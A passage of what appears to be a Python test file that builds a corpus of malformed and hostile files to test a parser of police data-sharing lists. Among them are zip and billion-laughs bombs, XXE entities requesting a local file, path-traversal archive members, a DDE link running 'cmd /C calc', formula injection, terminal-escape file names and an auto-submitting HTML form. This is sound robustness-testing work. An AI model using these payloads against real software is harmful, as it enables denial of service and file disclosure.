        inner = archive(member(f"lib {level}-{i}.zip", inner) for i in range(wide))
    return inner


def xml(body: str, before: str = "") -> bytes:
    """Give the XML of a sheet with what stands in it, and before it."""
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}{_SHEET}{body}{_SHEET_END}'.encode()


def in_cell(text: str) -> str:
    """Give the XML of the first row, with a text as it stands."""
    return f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'


def _far_cell() -> bytes:
    return xlsx(xml(f'{in_cell("x")}<row r="1048576">{cell("x", "XFD1048576")}</row>'))


def _far_part() -> bytes:
    return xlsx(xml(f'{in_cell("x")}<row r="1048576">{cell("x", "XFD1048576")}</row>'), part="worksheets/sheet1.dat")


def _listed_again() -> bytes:
    return xlsx(sheet(_rows(_many(50_000))), times=500)


def _says(extent: str) -> bytes:
    """Give a sheet of agencies that says how far it reaches."""
    return sheet(_rows()).replace(b"<sheetData>", b'<dimension ref="%s"/><sheetData>' % extent.encode(), 1)


def _repeating(times: int | str, more: str = "") -> str:
    return ods_row(["Oakdale PD"] * 20, times, more) * 1000


def _gigabyte() -> Member:
    start = f'{_SHEET}<row r="1"><c r="A1" t="inlineStr"><is><t>'.encode()
    return repeated("xl/worksheets/sheet1.xml", start, bytes(1 << 20), 1000)


def _overlapping() -> bytes:
    return archive([member("xl/workbook.xml", bytes(1 << 20))] * 3000, overlap=True)


def _laughing_strings() -> bytes:
    first = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return xlsx(xml(first), _shared_strings("&l9;", before=_ENTITY_BOMB))


def _asking_sheet() -> bytes:
    asking = '<row r="2"><c r="A2" t="inlineStr"><is><t>&file;&web; PD</t></is></c></row>'
    return xlsx(xml(in_cell("Agency") + asking, _EXTERNAL_ENTITIES))


def _climbing() -> bytes:
    names = ("../../made.txt", "/made.txt", "C:\\made.txt", "xl/../../made.txt")
    return xlsx(sheet(_rows()), *(member(name, b"made") for name in names))


def _shared_strings(*texts: str, before: str = "") -> Member:
    inner = "".join(f"<si><t>{text}</t></si>" for text in texts)
    main = f"{_OFFICE}/spreadsheetml/2006/main"
    return member("xl/sharedStrings.xml", f'{before}<sst xmlns="{main}">{inner}</sst>'.encode())


def _one_text_again() -> bytes:
    """Give a workbook with one text of a million letters in 100,000 cells."""
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 100_001))
    return xlsx(xml(rows), _shared_strings("Oakdale PD " * 100_000))


def _formula_sheet() -> bytes:
    rows = [
        ("Agencies we share ALPR data with", ""),
        *((name, text) for name, text in zip(NAMES, FORMULAS, strict=False)),
    ]
    body = "".join(
        f'<row r="{n}">{cell(name, f"A{n}", formula.strip().lstrip("="))}</row>'
        for n, (name, formula) in enumerate(rows, start=1)
    )
    return xlsx(xml(body))


def _linked_sheet() -> bytes:
    """Give a workbook with links to other files, to programs and to the web."""
    package = f"{_OFFICE}/package/2006/relationships"
    relation = f"{_OFFICE}/officeDocument/2006/relationships"
    main = f'xmlns="{_OFFICE}/spreadsheetml/2006/main" xmlns:r="{relation}"'
    links = {
        "xl/externalLinks/externalLink1.xml": f'<externalLink {main}><ddeLink ddeService="cmd" ddeTopic=" /C calc"/>'
        "</externalLink>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{package}"><Relationship Id="rId1" '
        f'Type="{relation}/externalLinkPath" Target="http://127.0.0.1:9/x" TargetMode="External"/></Relationships>',
        "xl/worksheets/_rels/sheet1.xml.rels": f'<Relationships xmlns="{package}"><Relationship Id="rId1" '
        f'Type="{relation}/hyperlink" Target="http://127.0.0.1:9/" TargetMode="External"/><Relationship Id="rId2" '
        f'Type="{relation}/image" Target="http://127.0.0.1:9/x.png" TargetMode="External"/></Relationships>',
        "xl/connections.xml": f'<connections {main}><connection id="1" name="x" type="4" refreshOnLoad="1"><webPr '
        'url="http://127.0.0.1:9/"/></connection></connections>',
    }
    content = sheet(_rows()).replace(
        b"</sheetData>", b'</sheetData><hyperlinks><hyperlink ref="A2" location="http://127.0.0.1:9/"/></hyperlinks>'
    )
    return xlsx(content, *(member(name, text.encode()) for name, text in links.items()))


def _busy_portal() -> bytes:
    head = (
        '<base href="http://127.0.0.1:9/"><link rel="stylesheet" href="http://127.0.0.1:9/x.css"><meta '
        'http-equiv="refresh" content="0;url=http://127.0.0.1:9/"><script src="http://127.0.0.1:9/x.js"></script>'
        "<style>@import url(http://127.0.0.1:9/x.css)</style>"
    )
    body = (
        '<img src="http://127.0.0.1:9/x.png"><iframe src="http://127.0.0.1:9/"></iframe><object data="file:///etc/'
        'passwd"></object><video autoplay src="http://127.0.0.1:9/x"></video><svg><image href="http://127.0.0.1:9/x"/>'
        '</svg><form action="http://127.0.0.1:9/"><script>document.forms[0].submit()</script></form>'
    )
    return portal(CITIES, head, body)


def _with_halves() -> bytes:
    return html_base().replace(b"Ash", b"Ash&#xD800;&#0;&#x202E;&#1114112;")


def _laughing_portal() -> bytes:
    return portal(["&l9;", *CITIES], before=_ENTITY_BOMB).replace(b"&amp;l9;", b"&l9;")


def _deep_portal() -> bytes:
    return html_base().replace(b"<body>", b"<body>" + b"<div>" * 200_000)


def _asking_portal() -> bytes:
    return portal([*CITIES, "&file;&web; PD"], before=_EXTERNAL_ENTITIES).replace(b"&amp;", b"&")


# --- files that are none, or larger than they look ---


def _closed(path: Path) -> None:
    path.write_bytes(csv_base())
    path.chmod(0)


def _with_hole(content: Callable[[], bytes]) -> Callable[[Path], object]:
    """Give a maker of a whole file with 256 GB of nothing behind it, which takes no room on the disk."""

    def make(path: Path) -> None:
        with path.open("wb") as file:
            file.write(content())
            file.truncate(1 << 38)

    return make


def _one_line(path: Path) -> None:
    """Save 300 MB in one line, most of it a hole that takes no room on the disk."""
    with path.open("wb") as file:
        file.write(b"Agency Name\n")
        file.truncate(300_000_000)


# --- the corpus ---


def _owed(expected: Expected, files: dict[str, tuple[str, Callable[[], bytes], int | None]]) -> Iterator[BadFile]:
    """Give files of which the same is expected: name to what it is, its content, and its rows."""
    for name, (what, content, rows) in files.items():
        yield BadFile(name, what, expected, saved(content), rows)


def _refused(files: dict[str, tuple[str, Callable[[], bytes]]]) -> Iterator[BadFile]:
    """Give files that hold no list, or none that can be read."""
    for name, (what, content) in files.items():
        yield BadFile(name, what, "refused", saved(content))


def _not_what_they_say() -> Iterator[BadFile]:
    yield from _refused(
        {
            "empty.csv": ("nothing at all", lambda: b""),
            "one-byte.csv": ("one byte", lambda: b"x"),
            "only-mark.csv": ("the mark of UTF-8 and nothing behind it", lambda: b"\xef\xbb\xbf"),
            "white.csv": ("white space alone", lambda: b" \t\r\n" * 5000),
            "picture.pdf": ("a PNG called .pdf", _picture_file),
            "header.pdf": ("the first line of a PDF alone", lambda: b"%PDF-1.7\n"),
            "archive.xlsx": ("a ZIP without a workbook", lambda: archive([member("a.txt", b"a")])),
            "empty-archive.xlsx": ("a ZIP with nothing in it", lambda: archive([])),
            "letter.xlsx": ("a DOCX called .xlsx", lambda: archive([member("word/document.xml", b"<document/>")])),
            "program.xlsx": ("a program called .xlsx", lambda: b"MZ" + bytes(range(256)) * 40),
            "packed-table.csv": ("a table packed by gzip", lambda: gzip.compress(csv_base(), mtime=0)),
            "packed.csv": ("a GZIP called .csv", lambda: b"\x1f\x8b\x08\0" + bytes(range(200, 256)) * 20),
            "data.csv": ("JSON called .csv", lambda: json.dumps({"error": "not found", "status": 404}).encode()),
            "missing.csv": ("a web page called .csv", lambda: b"<html><h1>404 Not Found</h1></html>"),
            "letter.csv": (
                "a letter called .csv",
                lambda: b"Dear reporter,\n\nwe have no such records.\n\nThe Clerk\n",
            ),
            "menu.pdf": ("a PDF that is no report", lambda: pdf(document([show([(68, 700, "Lunch, cafeteria")])]))),
            "locked.pdf": ("a PDF locked with a password", _locked_pdf),
            "drm.pdf": ("a PDF locked by an unknown program", _unknown_lock),
            "locked.xlsx": ("an XLSX locked with a password", lambda: _compound("EncryptedPackage")),
            "locked-zip.xlsx": ("an XLSX whose packed files are locked", lambda: xlsx(sheet(_rows()), flags=1)),
            "old.xls": ("an XLS with nothing in its workbook", lambda: _compound("Workbook")),
            "message.xls": ("an e-mail called .xls", lambda: _compound("__properties_version1.0")),
            "zeros.csv": ("NUL bytes alone", lambda: bytes(5000)),
            "noise.csv": ("bytes that mean nothing", _noise),
        }
    )


def _wrong_names() -> Iterator[BadFile]:
    bases: dict[str, tuple[Callable[[], bytes], int]] = {
        "pdf": (pdf_base, IN_REPORT),
        "xlsx": (xlsx_base, 2 * LISTED),
        "csv": (csv_base, LISTED),
        "html": (html_base, LISTED),
    }
    for kind, (base, rows) in bases.items():
        for other in bases:
            name, what = (f"whole.{kind}", "whole") if kind == other else (f"{kind}-called.{other}", f"called .{other}")
            yield BadFile(name, f"a {kind.upper()}, {what}", "rows", saved(base), rows)


def _cuts() -> Iterator[BadFile]:
    for tenth in range(1, 10):
        what = f"cut off after {tenth * 10} percent"
        yield BadFile(f"cut-{tenth}.pdf", f"a report {what}", "refused", saved(_cut, pdf_base, tenth))
        yield BadFile(f"cut-{tenth}.xlsx", f"an export {what}", "refused", saved(_cut, xlsx_base, tenth))
        yield BadFile(f"cut-{tenth}.html", f"a portal {what}", "noted", saved(_cut, html_base, tenth))
        # Nothing tells that there was more.
        yield BadFile(f"cut-{tenth}.csv", f"a table {what}", "rows", saved(_cut, csv_base, tenth), _lines_left(tenth))
    yield BadFile("cut-5.ods", "an ODS list cut in half", "refused", saved(_cut, ods_base, 5))
    yield BadFile("cut-early.pdf", "a report made for the web, cut off after a page", "noted", saved(_cut_early))
    yield BadFile("page-lost.pdf", "a report that lost what stands on its second page", "noted", saved(_page_lost))
    yield BadFile("zeroed.pdf", "a report whose second half is zeros", "noted", saved(_half_zeros))


def _tables() -> Iterator[BadFile]:
    yield from _refused(
        {
            "quote.csv": ("a quotation mark not closed", lambda: csv_base().replace(b"\nBirch", b'\n"Birch', 1)),
            "commas.csv": ("marks between cells alone", lambda: b",,,,\n" * 1000),
            "header.csv": ("column names alone", lambda: table([])),
            "numbers.csv": ("numbers where names should be", lambda: b"a,b\n" + b"12,144\n" * 100),
            "million.csv": ("a million lines of one letter", lambda: b"x\n" * 1_000_000),
        }
    )
    yield from _owed(
        "rows",
        {
            "ragged.csv": ("rows of all lengths", _ragged, LISTED),
            "returns.csv": ("lines that end as on a typewriter", lambda: table(end="\r"), LISTED),
            "good.ods": ("an ODS list", ods_base, LISTED),
        },
    )
    yield from _owed(
        "either",
        {
            "quotes.csv": (
                "each line with a quotation mark not closed",
                lambda: csv_base().replace(b"\n", b'\n"'),
                None,
            ),
            "no-names.html": ("a portal whose list is empty", lambda: portal([]), None),
            "headers.csv": ("one column name four times", lambda: csv_of([("Agency",) * 4, *_four_times()]), LISTED),
        },
    )


def _private() -> Iterator[BadFile]:
    head, unnamed = PRIVATE_HEAD, ("Agency", *"abcdef")
    both = f"columns with {', '.join(head[1:])}"
    yield BadFile("private.csv", both, "rows", saved(lambda: csv_of([head, *_private_rows()])), LISTED, PRIVATE)
    yield BadFile("private.xlsx", both, "rows", saved(lambda: xlsx(sheet([head, *_private_rows()]))), LISTED, PRIVATE)
    alone = saved(lambda: csv_of(row[1:] for row in _private_rows()))
    yield BadFile("private-only.csv", "such columns alone, without names", "refused", alone, None, TELLING)
    # What a column without a name holds can be told of plates, VINs and e-mails, hardly of user names.
    told = tuple(word for word in PRIVATE if any(sign.isdigit() for sign in word) and "_" not in word)
    hidden = saved(lambda: csv_of([unnamed, *_private_rows()]))
    yield BadFile("private-unnamed.csv", "such columns under names that do not tell", "rows", hidden, LISTED, told)


def _letters_of_all_kinds() -> Iterator[BadFile]:
    accents = csv_base().decode().replace("Ash", "Cañon ")

    def with_ash(other: bytes) -> Callable[[], bytes]:
        return lambda: csv_base().replace(b"Ash", other)

    texts: dict[str, tuple[str, Callable[[], bytes]]] = {
        "nul.csv": ("NUL bytes in names", with_ash(b"A\0s\0h")),
        "invalid.csv": ("bytes that are not UTF-8", with_ash(b"Ash\xff\xfe\x80\xc3")),
        "overlong.csv": ("overlong UTF-8", with_ash(b"Ash\xc0\xaf\xe0\x80\xaf\xf8\x88\x80\x80\x80")),
        "surrogates.csv": ("halves of letters as UTF-8", with_ash(b"Ash\xed\xa0\x80\xed\xb0\x80")),
        "utf-7.csv": ("UTF-7 that hides a script", with_ash(b"+ADw-script+AD4-")),
        "latin.csv": ("Windows-1252", lambda: accents.encode("cp1252")),
        "mixed.csv": ("UTF-8 and Windows-1252 in turn", lambda: _mixed(accents)),
        "utf-16.csv": ("UTF-16 with its mark", lambda: accents.encode("utf-16")),
        "utf-16-bare.csv": ("UTF-16 without its mark", lambda: accents.encode("utf-16-le")),
        "utf-16-big.csv": ("UTF-16 the other way around", lambda: accents.encode("utf-16-be")),
        "utf-16-odd.csv": ("UTF-16 with half a letter at its end", lambda: accents.encode("utf-16")[:-1]),
        "utf-32.csv": ("UTF-32", lambda: accents.encode("utf-32")),
        "marks.csv": ("the mark of UTF-8 before each line", lambda: csv_base().replace(b"\n", b"\n\xef\xbb\xbf")),
        "halves.html": ("halves of letters as HTML entities", _with_halves),
    }
    yield from _owed("rows", {name: (*one, LISTED) for name, one in texts.items()})
    # XML allows no control characters, and of these files only the last may be a letter short of whole.
    in_xml = [name for name in UNSEEN if not set(name) & set("\x1b\x07")]
    yield from _owed(
        "rows",
        {
            "unseen.csv": ("bidi, zero-width and control characters", lambda: table(UNSEEN), len(UNSEEN)),
            "unseen.xlsx": ("the same in a workbook", lambda: xlsx(sheet(_rows(in_xml))), len(in_xml)),
            "unseen.html": ("the same on a portal", lambda: portal([*CITIES, *UNSEEN]), LISTED + len(UNSEEN)),
            "mapped.pdf": ("a font that says its letters are unseen ones", _mapped_pdf, IN_REPORT),
            "scripts.csv": ("script, markup and templates in names", lambda: table(HOSTILE), len(HOSTILE)),
            "scripts.xlsx": ("the same in a workbook", lambda: xlsx(sheet(_rows(HOSTILE))), len(HOSTILE)),
            "scripts.html": ("the same on a portal", lambda: portal([*CITIES, *HOSTILE]), LISTED + len(HOSTILE)),
            "scripts.pdf": (
                "the same in a report, with formulas",
                _hostile_pdf,
                len(HOSTILE) + len(FORMULAS) + _BESIDE,
            ),
        },
    )
    halves = saved(lambda: xlsx(sheet(_rows()).replace(b"Ash", b"Ash&#xD800;&#0;")))
    yield BadFile("halves.xlsx", "halves of letters as XML entities", "either", halves)


def _busy() -> Iterator[BadFile]:
    macro = member("xl/vbaProject.bin", _compound("VBA"))
    run = "names that a spreadsheet would run"
    yield from _owed(
        "rows",
        {
            "formulas.csv": (run, lambda: table(FORMULAS), len(FORMULAS)),
            "formulas.xlsx": ("formulas with the text that they gave last", _formula_sheet, len(FORMULAS)),
            "formula-text.xlsx": (run, lambda: xlsx(sheet(_rows(FORMULAS))), len(FORMULAS)),
            "formulas.html": (run, lambda: portal([*CITIES, "=1+1 PD", "@SUM(1) PD"]), LISTED + 2),
            "macros.xlsm": ("a workbook with a macro", lambda: xlsx(sheet(_rows()), macro), LISTED),
            "links.xlsx": ("links to files, programs and the web", _linked_sheet, LISTED),
            "remote.html": ("a portal that fetches, frames and submits", _busy_portal, LISTED),
            "actions.pdf": ("a report with scripts, links and files inside", _busy_pdf, IN_REPORT),
            "climbing.xlsx": ("packed files that would leave their folder", _climbing, LISTED),
        },
    )
    asks = "asks for a file of the machine and for a page"
    yield BadFile("entities.xlsx", f"XML that {asks}", "either", saved(_asking_sheet), forbidden=(SECRET,))
    yield BadFile("entities.html", f"HTML that {asks}", "either", saved(_asking_portal), forbidden=(SECRET,))


def _pdfs() -> Iterator[BadFile]:
    yield from _refused(
        {
            "pages-5000.pdf": ("5,000 empty pages", lambda: pdf(document([b""] * 5000))),
            "pages-claimed.pdf": ("one page that says it is a million", lambda: _pages(b"4 0 R", 1_000_000)),
            "pages-none.pdf": ("no page", lambda: pdf(document([]))),
            "pages-self.pdf": ("a page tree that holds only itself", lambda: _pages(b"2 0 R", 1)),
            "objects-loop.pdf": ("a stream of objects that holds itself", _object_stream_loop),
            "form-loop.pdf": ("a drawing that draws itself twice", lambda: _forms(1, loop=True)),
            "form-laughs.pdf": ("drawings that draw each other two to the 25th times", lambda: _forms(25)),
            "thin-page.pdf": ("a picture on a page a million points wide", lambda: _pictures(1, 64, "0 0 1000000 1")),
            "nesting.pdf": (
                "100,000 arrays inside each other",
                lambda: pdf(document([b"[" * 100_000 + b"]" * 100_000])),
            ),
            "stream-bomb.pdf": ("a page whose text unpacks to a gigabyte", _stream_bomb),
            "image-bomb.pdf": ("a picture of 50,000 by 50,000 dots in color", _image_bomb),
            "tiles.pdf": ("a page filled with tiles too small to be seen", _tiles),
            "shades.pdf": ("a page shaded 20,000 times", _shades),
            "letter-loop.pdf": ("a letter that is drawn with itself", _letter_of_itself),
            "deep-tree.pdf": ("20,000 page trees inside each other", _deep_tree),
            "picture-bomb.pdf": ("a picture of 60,000 by 60,000 dots", lambda: _pictures(1, 60_000)),
            "pictures.pdf": ("300 pages that are white pictures", lambda: _pictures(300, 64)),
        }
    )
    size = "0 0 1000000 1000000"
    yield from _owed(
        "either",
        {
            "pages-again.pdf": ("one page 20,000 times", lambda: _pages(b"4 0 R " * 20_000, 20_000), None),
            "pages-loop.pdf": ("a page tree that holds itself", lambda: _pages(b"4 0 R 2 0 R 2 0 R", 9), None),
            "xref-loop.pdf": (
                "a listing that goes on in itself",
                lambda: pdf(document(report()), loop=True),
                IN_REPORT,
            ),
            "wide-page.pdf": ("a page of a million points", lambda: pdf(document(report(), size)), None),
            "no-page-size.pdf": ("pages without an extent", lambda: pdf(document(report(), "0 0 0 0")), None),
            "turned-page.pdf": (
                "pages that end before they start",
                lambda: pdf(document(report(), "595 842 0 0")),
                None,
            ),
            "crowded.pdf": ("4,000 names on one page", _crowded, None),
            "strewn.pdf": ("names where no page is", _strewn, None),
            "tail.pdf": ("a report with 2 MB of noise behind it", lambda: pdf_base() + _noise() * 400, IN_REPORT),
        },
    )
    long = 10_000
    yield from _owed(
        "rows",
        {
            "front.pdf": ("a report with a line before it", lambda: b"HTTP/1.1 200 OK\r\n\r\n" + pdf_base(), IN_REPORT),
            "many-pairs.pdf": ("a hot list of 5,000 names", _many_pairs, _SHARED + 5000),
            "long.pdf": ("a report of 10,000 names", lambda: pdf(document(report(_many(long)))), long + _BESIDE),
        },
    )


def _no_files() -> Iterator[BadFile]:
    yield BadFile("folder.csv", "a folder", "refused", Path.mkdir)
    yield BadFile("pipe.csv", "a pipe that nobody writes to", "refused", os.mkfifo)
    yield BadFile("endless.csv", "a device that never ends", "refused", lambda path: path.symlink_to("/dev/zero"))
    yield BadFile("nowhere.csv", "a link to nothing", "refused", lambda path: path.symlink_to("not there.csv"))
    yield BadFile("loop.csv", "a link to itself", "refused", lambda path: path.symlink_to(path.name))
    yield BadFile("closed.csv", "a file that may not be read", "refused", _closed)
    for name, what in (
        ("two\nlines", "a file whose name has two lines"),
        ("\x1b]0;owned\x07\u202e[bold]", "a file whose name steers the terminal"),
        (os.fsdecode(b"latin-\xe9"), "a file whose name is not UTF-8"),
        ("x" * 251, "a file with the longest name"),
    ):
        yield BadFile(f"{name}.csv", what, "rows", saved(csv_base), LISTED)
        yield BadFile(f"{name}.pdf", f"{what}, and nothing in it", "refused", saved(lambda: b"%PDF-1.7\n"))


def _large() -> Iterator[BadFile]:
    lines, million = 100_000, 1_000_000
    ten = [*NAMES[:9], "Oakdale" * 142_858]
    endless = [f"{name} {'z' * 10_000}" for name in CITIES]
    yield from _owed(
        "rows",
        {
            "100000.csv": ("100,000 rows", lambda: table(_many(lines)), lines),
            "100000.xlsx": ("100,000 rows", lambda: xlsx(sheet(_rows(_many(lines)))), lines),
            "cell.csv": ("a cell of a million letters", lambda: table(ten), len(ten)),
            "cell.xlsx": ("a cell of a million letters", lambda: xlsx(sheet(_rows(ten))), len(ten)),
            "long-names.csv": ("names of 10,000 letters", lambda: table(endless), LISTED),
            "long-names.html": ("names of 10,000 letters", lambda: portal(endless), LISTED),
            "wide.csv": ("16,384 columns", lambda: csv_of(_wide()), 9),
            "wide.xlsx": ("16,384 columns", lambda: xlsx(sheet(_wide())), 9),
            "long-cells.csv": ("cells of 299 letters without a space", lambda: csv_of(_long_words()), 2000),
        },
    )
    yield from _refused(
        {
            "columns.csv": ("20,000 columns", lambda: csv_of([*_rows(), ("", *["x"] * 20_000)] * 40)),
            "lines.csv": ("five million pairs", lambda: b"source,target\n" + b"Oak PD,Elm PD\n" * 5 * million),
            "other-names.csv": ("a million pairs, no two names alike", lambda: csv_of(_other_pairs(million))),
            "long-list.csv": ("100,000 names of 299 letters", lambda: table(f"{name:x<299}" for name in _many(lines))),
        }
    )
    for kind, whole in {"pdf": pdf_base, "csv": csv_base, "html": html_base, "xlsx": xlsx_base}.items():
        yield BadFile(f"hole.{kind}", f"a {kind.upper()} of 256 GB", "refused", _with_hole(whole))
    short = saved(lambda: b"Agency\n" + b"".join(b"Oak %d PD\n" % number for number in range(million)))
    yield BadFile("million-names.csv", "a million short names", "either", short, million)
    yield BadFile("one-line.csv", "300 MB in one line", "refused", _one_line)


def _bombs() -> Iterator[BadFile]:
    again = "a row that says it stands a million times, 1,000 times"
    yield from _refused(
        {
            "flat.xlsx": ("1 GB of zeros in a sheet", lambda: xlsx(_gigabyte())),
            "lying.xlsx": ("1 GB of zeros that say they are 100 bytes", lambda: xlsx(replace(_gigabyte(), size=100))),
            "nested.xlsx": ("zips in zips in zips", _zip_of_zips),
            "overlap.xlsx": ("one packed file listed 3,000 times", _overlapping),
            "laughs.xlsx": ("a billion laughs in a sheet", lambda: xlsx(xml(in_cell("&l9;"), _ENTITY_BOMB))),
            "laughs-shared.xlsx": ("a billion laughs among the shared texts", _laughing_strings),
            "one-text.xlsx": ("one text of a million letters in 100,000 cells", _one_text_again),
            "far.xlsx": ("a cell in the last row of the last column", _far_cell),
            "repeated.ods": (again, lambda: ods(ods_row(["Oakdale PD"] * 20, 1_000_000) * 1000)),
            "zeros.ods": (f"{again}, with zeros before the number", lambda: ods(_repeating(f"{10**6:030}"))),
            "letters.ods": (f"{again}, with a digit as an entity", lambda: ods(_repeating("&#49;000000"))),
            "late.ods": (
                f"{again}, behind a long name",
                lambda: ods(_repeating(10**6, f'table:style-name="{"x" * 999}"')),
            ),
            "other-part.xlsx": ("a cell in the last row of a sheet that is not called .xml", _far_part),
            "listed.xlsx": ("one sheet of 50,000 rows listed 500 times", _listed_again),
            "deep.xlsx": ("200,000 elements inside each other", lambda: xlsx(b"<a>" * 200_000)),
        }
    )
    yield from _owed(
        "rows",
        {
            "extent.xlsx": ("a sheet that says it has all cells", lambda: xlsx(_says("A1:XFD1048576")), LISTED),
            "no-extent.xlsx": ("a sheet that says it has one cell", lambda: xlsx(_says("A1:A1")), LISTED),
            "odd-extent.xlsx": ("a sheet that ends before it starts", lambda: xlsx(_says("XFD1048576:A1")), LISTED),
        },
    )
    carried = saved(lambda: xlsx(sheet(_rows()), member("xl/embeddings/x.zip", _zip_of_zips())))
    yield BadFile("carried.xlsx", "a good list that carries zips in zips", "rows", carried, LISTED)
    yield BadFile("laughs.html", "a billion laughs on a portal", "either", saved(_laughing_portal))
    yield BadFile("deep.html", "a portal inside 200,000 elements inside each other", "either", saved(_deep_portal))


CORPUS: list[BadFile] = [
    *_not_what_they_say(),
    *_wrong_names(),
    *_cuts(),
    *_tables(),
    *_private(),
    *_letters_of_all_kinds(),
    *_busy(),
    *_pdfs(),
    *_no_files(),
    *_large(),
    *_bombs(),
]
"""All files."""


def main() -> None:
    """Make the corpus in the folder that is named, and list it."""
    if len(sys.argv) != 2:
        sys.exit("Name a folder: python tests/bad_files.py FOLDER")
    for number, bad in enumerate(write_corpus(Path(sys.argv[1]))):
        owed = f"{bad.expected} {bad.rows or ''}".strip()
        sys.stdout.write(f"{number:03}/{ascii(bad.name)[1:-1]}: {bad.what} ({owed})\n")


if __name__ == "__main__":
    main()
